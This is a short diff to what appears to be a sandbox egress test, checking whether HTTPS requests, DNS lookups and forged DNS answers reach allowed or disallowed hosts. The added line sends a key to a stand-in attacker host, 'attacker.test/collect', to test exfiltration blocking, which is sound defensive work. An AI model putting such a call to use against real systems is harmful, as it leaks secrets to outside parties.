@@ -108,6 +108,7 @@ gw4, gw6 = gateway(), GW6
 out["gateways"] = [gw4, gw6]
 out["swap"] = https("https://api.openai.com/v1/sandbox-swap", key)
 out["unbound"] = https("https://echo.example.com/collect", key)
+out["other_host"] = https("https://attacker.test/collect", key)
 out["resolve_allowed"] = resolve("api.openai.com")
 out["resolve_other"] = resolve("attacker.test")
 out["forged_dns_allowed"] = forged_dns("192.0.2.99", "api.openai.com", key)
